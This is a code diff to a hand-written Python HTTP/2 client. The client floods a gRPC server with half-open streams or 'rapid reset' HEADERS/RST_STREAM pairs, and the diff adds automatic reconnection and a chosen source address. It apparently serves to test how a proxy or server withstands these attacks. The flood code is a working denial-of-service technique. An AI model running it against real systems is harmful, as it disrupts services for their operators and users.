@@ -5,7 +5,7 @@ Run it with Debian's /usr/bin/python3 and python3-h2 (it uses h2's frame and
 header codecs, hyperframe and hpack, and writes the frames itself, because
 h2's own state machine would refuse to misbehave).
 
-Modes, both on ONE connection:
+Modes, both on ONE connection (unless --reconnect):
 
   halfopen    opens --streams streams with gRPC request headers for --path
               and no grpc-timeout, sends no DATA and no END_STREAM, and holds
@@ -16,7 +16,9 @@ Modes, both on ONE connection:
               --no_settings_ack never acknowledges the server's SETTINGS.
   rapidreset  sends HEADERS then RST_STREAM(CANCEL) at once, for --streams
               streams or --hold seconds, whichever comes first, and reports
-              the rate it achieved.
+              the rate it achieved. --reconnect opens a new connection
+              whenever the server closes one (a proxy that cuts a flooding
+              connection faces an attacker who comes back).
 
 It prints one line of JSON on stdout: what it sent, what the server did with
 it (streams it reset, by error code; streams it answered, by grpc-status;
@@ -61,9 +63,12 @@ def frame_header(length, frame_type, flags, stream_id):
 class Peer:
     """One HTTP/2 connection, written by hand, read with hyperframe."""
 
-    def __init__(self, host, port, ack_settings=True, ack_pings=True):
+    def __init__(self, host, port, ack_settings=True, ack_pings=True,
+                 source=None):
         self.started = time.monotonic()
-        self.sock = socket.create_connection((host, port), timeout=5)
+        self.sock = socket.create_connection(
+            (host, port), timeout=5,
+            source_address=(source, 0) if source else None)
         self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.sock.setblocking(False)
         self.ack_settings = ack_settings
@@ -363,21 +368,38 @@ def run_halfopen(peer, block, args):
     return report
 
 
-def run_rapidreset(peer, block, args):
+def run_rapidreset(peer, block, args, connect):
     """Streams opened and reset at once, as fast as the connection takes
     them. The kernel's socket buffers hold many thousands of them, so the
     rate that counts is the server's: a PING sent after the last one is
     answered once the server has read them all. (One PING only: gRPC counts
     frequent PINGs from a client as strikes and sends GOAWAY
-    too_many_pings.)"""
+    too_many_pings.) With --reconnect, a connection the server closes is
+    replaced by a new one (`connect()`), and the flood goes on until
+    --streams or --hold: a proxy that closes a flooding connection is then
+    measured against an attacker who comes back at once."""
     next_id = 1
     sent = 0
     batch = 100
+    connections = 1
     deadline = time.monotonic() + args.hold
     start = time.monotonic()
-    while not peer.closed and sent < args.streams:
-        if time.monotonic() >= deadline:
-            break
+    totals = collections.Counter()
+    while sent < args.streams and time.monotonic() < deadline:
+        if peer.closed:
+            if not args.reconnect:
+                break
+            totals.update(peer.resets)
+            peer.close()
+            try:
+                peer = connect()
+            except OSError:
+                break
+            if not peer.wait_for_settings():
+                break
+            connections += 1
+            next_id = 1
+            continue
         if len(peer.outbuf) >= (1 << 20):
             peer.pump(0.01)  # The server reads slower than this writes.
             continue
@@ -395,14 +417,18 @@ def run_rapidreset(peer, block, args):
     caught_up = peer.wait_for_ping(1, timeout=120)
     took = time.monotonic() - start
     report = peer.report()
+    if args.reconnect:
+        totals.update(peer.resets)
+        report["resets"] = dict(totals)
     report.update({
         "streams_reset": sent,
+        "connections": connections,
         "written_s": round(written, 3),
         "server_read_all": caught_up,
         "seconds": round(took, 3),
         "rate_per_s": round(sent / took) if took > 0 and caught_up else None,
     })
-    return report
+    return report, peer
 
 
 def main():
@@ -420,6 +446,12 @@ def main():
                         "MAX_CONCURRENT_STREAMS at once")
     parser.add_argument("--no_settings_ack", action="store_true",
                         help="never acknowledge the server's SETTINGS")
+    parser.add_argument("--source", default="",
+                        help="the local address to connect from (e.g. "
+                        "127.0.0.2: another client host, on loopback)")
+    parser.add_argument("--reconnect", action="store_true",
+                        help="rapidreset: open a new connection whenever "
+                        "the server closes one, until --streams or --hold")
     parser.add_argument("--no_ping_ack", action="store_true",
                         help="never answer the server's PINGs (a peer whose "
                         "host vanished)")
@@ -427,10 +459,14 @@ def main():
     host, _, port = args.target.rpartition(":")
     if not host or not port.isdigit() or args.streams < 0 or args.hold < 0:
         parser.error("--target must be HOST:PORT; counts must be >= 0")
-    try:
-        peer = Peer(host.strip("[]"), int(port),
+    def connect():
+        return Peer(host.strip("[]"), int(port),
                     ack_settings=not args.no_settings_ack,
-                    ack_pings=not args.no_ping_ack)
+                    ack_pings=not args.no_ping_ack,
+                    source=args.source or None)
+
+    try:
+        peer = connect()
     except OSError as e:
         print(json.dumps({"mode": args.mode, "error": f"connect: {e}"}))
         return 1
@@ -441,13 +477,14 @@ def main():
     if args.mode == "halfopen":
         report = run_halfopen(peer, block, args)
     else:
-        report = run_rapidreset(peer, block, args)
+        report, peer = run_rapidreset(peer, block, args, connect)
     peer.close()
     report = {
         "mode": args.mode,
         "target": args.target,
         "path": args.path,
         "respect_limit": args.respect_limit,
+        "reconnect": args.reconnect,
         "settings_acked": not args.no_settings_ack,
         "pings_acked": not args.no_ping_ack,
         **report,
